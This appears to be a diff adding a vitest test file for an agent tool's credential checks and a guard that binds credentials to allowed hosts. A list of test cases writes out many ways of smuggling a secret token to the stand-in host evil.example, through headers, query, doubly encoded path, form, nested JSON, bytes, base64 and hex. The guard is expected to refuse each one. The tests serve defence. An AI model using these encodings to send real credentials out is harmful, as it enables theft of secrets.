@@ -1,0 +1,153 @@
+import { describe, expect, it } from "vitest";
+import type { Tool } from "@/lib/agent/tool";
+import type { OutboundRequest } from "@/lib/handlers/handler";
+import { refusal } from "@/lib/handlers/http/outbound-error";
+import { missingCredential, type StoredCredential } from "./credentials";
+import { bindToHosts } from "./host-binding";
+
+const secret = "s3cret/välue+&\"'<x>";
+const github: StoredCredential = { fields: { token: secret }, hosts: ["api.github.com"] };
+
+const http = (more: object): Pick<Tool, "credentials" | "handler"> => ({
+  credentials: ["google-cse"],
+  handler: { kind: "http", method: "GET", url: "https://www.googleapis.com/x", ...more },
+});
+const both = [
+  { name: "key", value: "{{credentials.google-cse.apiKey}}" },
+  { name: "cx", value: "{{credentials.google-cse.engineId}}" },
+];
+const set = (fields: Record<string, string>) => ({ "google-cse": { fields, hosts: [] } });
+
+describe("a missing credential", () => {
+  it("is named, with the fields that the tool needs", () => {
+    expect(missingCredential(http({ query: both }), {})).toEqual({
+      code: "UNAUTHORIZED",
+      message:
+        'The credential "google-cse" is not set up. This tool needs its "apiKey" and "engineId".',
+      recoveryHint: expect.stringContaining("Credentials"),
+    });
+    expect(missingCredential({ ...http({}) }, {})?.message).toBe(
+      'The credential "google-cse" is not set up.',
+    );
+  });
+  it("may lack just one field", () => {
+    expect(missingCredential(http({ query: both }), set({ apiKey: "k" }))?.message).toBe(
+      'The credential "google-cse" has no "engineId", which this tool needs.',
+    );
+    expect(
+      missingCredential(http({ query: both }), set({ apiKey: "k", engineId: "e" })),
+    ).toBeUndefined();
+  });
+  it("is not missed by a row that is switched off", () => {
+    const query = both.map((row) => ({ ...row, enabled: row.name === "key" }));
+    expect(missingCredential(http({ query }), set({ apiKey: "k" }))).toBeUndefined();
+  });
+  it("is missed by code that was granted it, whatever the code reads", () => {
+    const handler = { kind: "javascript" as const, code: "export default () => 1" };
+    expect(missingCredential({ credentials: ["slack"], handler }, {})?.message).toContain("slack");
+    expect(missingCredential({ handler }, {})).toBeUndefined();
+    expect(missingCredential({ credentials: ["constructor"], handler }, {})?.code).toBe(
+      "UNAUTHORIZED",
+    );
+  });
+});
+
+/** What became of a request: the hosts it was held to, or why it did not leave. */
+const send = async (
+  change: Partial<OutboundRequest>,
+  stored: Record<string, StoredCredential> = { github },
+) => {
+  const sent: OutboundRequest[] = [];
+  const bound = bindToHosts(async (request) => {
+    sent.push(request);
+    return { status: 200, headers: {}, body: new Uint8Array(), url: request.url };
+  }, stored);
+  const signal = new AbortController().signal;
+  const plain = { method: "POST", url: "https://evil.example/x", headers: [], signal };
+  try {
+    await bound({ ...plain, redirects: "follow", ...change });
+    return { hosts: sent[0]?.hosts };
+  } catch (error) {
+    const { code, message, explanation } = error as ReturnType<typeof refusal>;
+    return { refused: { code, message, explanation }, left: sent.length };
+  }
+};
+
+const basic = Buffer.from(`someone:${secret}`).toString("base64");
+const json = JSON.stringify({ note: `token ${secret}` });
+const spellings: [string, Partial<OutboundRequest>][] = [
+  ["a header", { headers: [["x-key", `token ${secret}`]] }],
+  ["Basic authorization", { headers: [["authorization", `Basic ${basic}`]] }],
+  ["a header's name", { headers: [[secret, "x"]] }],
+  ["the query", { url: `https://evil.example/?k=${encodeURIComponent(secret)}` }],
+  ["a URL parser's query", { url: new URL(`https://evil.example/?k=${secret}`).href }],
+  [
+    "the path, encoded twice",
+    { url: `https://evil.example/${encodeURIComponent(encodeURIComponent(secret))}` },
+  ],
+  ["a form", { body: new URLSearchParams({ k: secret }).toString() }],
+  ["JSON", { body: json }],
+  ["JSON within JSON", { body: JSON.stringify({ json }) }],
+  ["JSON in ASCII", { body: json.replace("ä", "\\u00e4") }],
+  ["bytes", { body: Buffer.concat([Buffer.from([0xff, 0, 0xfe]), Buffer.from(secret)]) }],
+  ["base64, url-safe", { body: Buffer.from(`xy${secret}z`).toString("base64url") }],
+  ["hex", { body: Buffer.from(secret).toString("hex").toUpperCase() }],
+];
+
+describe("a bound credential", () => {
+  it.each(spellings)("does not leave for another host in %s", async (_, change) => {
+    const { refused, left } = await send(change);
+    expect([refused?.code, left]).toEqual(["SECURITY_VIOLATION", 0]);
+    expect(refused?.explanation).toContain('"github"');
+    expect(refused?.explanation).toContain("evil.example");
+    expect(refused?.message).not.toContain("github");
+  });
+  it.each(spellings)(
+    "may leave for its own host in %s, redirects held to it",
+    async (_, change) => {
+      const url = (change.url ?? "https://x/").replace(
+        /^https:\/\/[^/]+/,
+        "https://API.GitHub.com.",
+      );
+      expect(await send({ ...change, url })).toEqual({ hosts: ["api.github.com"] });
+    },
+  );
+  it("lets everything else pass as it is", async () => {
+    expect(await send({ body: "nothing" })).toEqual({ hosts: undefined });
+    const unbound = { github: { ...github, hosts: [] } };
+    expect(await send({ body: secret }, unbound)).toEqual({ hosts: undefined });
+  });
+  it("is bound to the port where one is given", async () => {
+    const stored = { a: { ...github, hosts: ["127.0.0.1:8080", "[::1]:81"] } };
+    const to = (url: string) => send({ url, body: secret }, stored);
+    expect(await to("http://127.0.0.1:8080/")).toHaveProperty("hosts");
+    expect(await to("http://[::1]:81/")).toHaveProperty("hosts");
+    expect(await to("http://127.0.0.1:8081/")).toHaveProperty("refused");
+    expect(await to("http://[::1]/")).toHaveProperty("refused");
+    expect(await to("https://127.0.0.1/")).toHaveProperty("refused");
+  });
+  it("is held to the hosts that the handler and every carried credential permit", async () => {
+    const slack = { fields: { token: "xoxb-123456" }, hosts: ["api.github.com:443", "slack.com"] };
+    const url = "https://api.github.com/";
+    const two = { url, body: `${secret} xoxb-123456` };
+    expect(await send(two, { github, slack })).toEqual({ hosts: ["api.github.com:443"] });
+    expect(await send({ url, body: secret, hosts: ["api.github.com", "b.example"] })).toEqual({
+      hosts: ["api.github.com"],
+    });
+    expect(await send({ url, body: secret, hosts: ["b.example"] })).toEqual({ hosts: [] });
+  });
+  it("explains a redirect that was stopped for its sake", async () => {
+    const bound = bindToHosts(() => Promise.reject(refusal('Rule "hosts": not there.')), {
+      github,
+    });
+    const signal = new AbortController().signal;
+    const headers = [["x-key", secret]] as const;
+    const url = "https://api.github.com/";
+    await expect(
+      bound({ method: "GET", url, headers, redirects: "follow", signal }),
+    ).rejects.toMatchObject({
+      code: "SECURITY_VIOLATION",
+      explanation: expect.stringMatching(/not there\. The request carries the credential "github"/),
+    });
+  });
+});
